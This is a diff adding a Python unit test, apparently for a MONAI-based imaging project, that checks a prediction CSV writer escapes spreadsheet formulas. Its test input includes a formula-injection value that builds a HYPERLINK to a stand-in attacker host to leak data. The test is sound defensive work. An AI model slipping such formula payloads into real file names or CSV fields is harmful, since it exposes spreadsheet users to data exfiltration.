@@ -143,6 +143,22 @@ def test_predictions_csv_has_the_image_file_and_id_columns(tmp_path: Path) -> No
     assert [r["patient"] for r in rows] == ["p1", "p2"] and [r["pred"] for r in rows] == ["1", "0"]
 
 
+def test_predictions_csv_neutralises_formulas_like_the_manifest(tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?leak","x").png'
+    writer = PredictionWriter(tmp_path / "predictions.csv", class_names=["normal", "pneumonia"])
+    batch = [{"image_path": hostile, "patient": "@SUM(A1)", "slice": torch.tensor(-3)},
+             {"image_path": "/xr/b.png", "patient": "+p2", "slice": torch.tensor(4)}]  # fmt: skip
+    output = [{"pred": torch.tensor([0.25, 0.75])}, {"pred": torch.tensor([0.9, 0.1])}]
+    engine = Engine(lambda e, b: output)
+    writer.attach(engine)
+    engine.run([batch], max_epochs=1)
+    rows = list(csv.DictReader((tmp_path / "predictions.csv").open(newline="")))
+    assert [r["image"] for r in rows] == ["'" + hostile, "/xr/b.png"]
+    assert [r["patient"] for r in rows] == ["'@SUM(A1)", "'+p2"]
+    assert [r["slice"] for r in rows] == ["-3", "4"]  # numbers stay numbers, negative too
+    assert [float(r["p_pneumonia"]) for r in rows] == [0.75, 0.1]
+
+
 def test_existing_output_hint_names_the_bundle_flag(tmp_path: Path) -> None:
     from monai_forget.bundles import check_outputs
 
